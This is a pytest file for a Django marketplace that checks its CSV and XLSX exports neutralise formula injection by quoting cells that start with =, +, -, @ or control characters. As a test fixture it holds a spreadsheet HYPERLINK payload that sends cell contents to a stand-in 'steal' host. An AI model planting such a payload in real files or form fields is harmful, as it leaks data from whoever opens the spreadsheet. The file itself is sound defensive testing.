"""Every CSV and XLSX the marketplace writes shows formula-like text as text (OWASP, CSV injection)."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from openpyxl import load_workbook

from marketplace.purchases import ledger
from marketplace.purchases.models import LedgerEntry
from marketplace.spreadsheets import safe_cell
from tests.factories import StaffFactory, product_for_sale, seller_shop
from tests.shopping import add, checkout_data, option

pytestmark = pytest.mark.django_db
User = get_user_model()
HYPERLINK = '=HYPERLINK("https://ocop.example/steal?d="&A1,"Xem")'


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+84912345678", "'+84912345678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Chả mực = ngon", "Chả mực = ngon"),
        ("", ""),
        (-50_000, -50_000),
        (630_000, 630_000),
        (None, None),
    ],
)
def test_formula_like_text_gets_a_quote_and_numbers_stay_numbers(value, expected):
    assert safe_cell(value) == expected


@pytest.fixture
def shop_with_an_order(client):
    user = User.objects.create_user("ban0@example.vn", "ban0@example.vn", "pw-123456")
    seller = seller_shop(owner=user)
    product = product_for_sale(seller, title="Chả mực A", price=200_000, stock=10)
    add(client, product, 3)
    # A guest checks out with a formula for a name.
    response = client.post(
        reverse("checkout:index"), checkout_data({seller: option(seller, "flat")}, name=HYPERLINK)
    )
    assert response.status_code == 302
    client.logout()
    return seller


def test_the_statement_csv_shows_a_formula_reference_as_text_and_amounts_as_numbers(
    client, shop_with_an_order
):
    ledger.payout_record(
        seller=shop_with_an_order, amount=100_000, bank_reference=HYPERLINK, by=StaffFactory()
    )
    assert LedgerEntry.objects.get(seller=shop_with_an_order, kind="payout").reference == HYPERLINK
    client.login(username="ban0@example.vn", password="pw-123456")
    exported = client.get(reverse("dashboard:shop-statement-csv")).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(exported)))
    payout = rows[-1]
    assert payout["Mã tham chiếu"] == "'" + HYPERLINK
    assert payout["Số tiền (₫)"] == "-100000"  # a number the seller's spreadsheet can sum
    assert [int(r["Số tiền (₫)"]) for r in rows][:2] == [600_000, -30_000]


def test_the_seller_s_order_download_shows_a_guest_s_formula_name_as_text(client, shop_with_an_order):
    client.login(username="ban0@example.vn", password="pw-123456")
    response = client.get(reverse("dashboard:order-list") + "?response_format=csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert "'" + HYPERLINK.replace('"', '""') in text
    rows = list(csv.reader(io.StringIO(text)))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_import_templates_hold_no_formula():
    from vendors import product_import

    rows = list(csv.reader(io.StringIO(product_import.template_csv().decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(product_import.template_xlsx())).active
    cells = [cell for row in rows for cell in row] + [c.value for row in sheet.iter_rows() for c in row]
    assert not any(isinstance(c, str) and c.startswith(("=", "+", "-", "@")) for c in cells)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
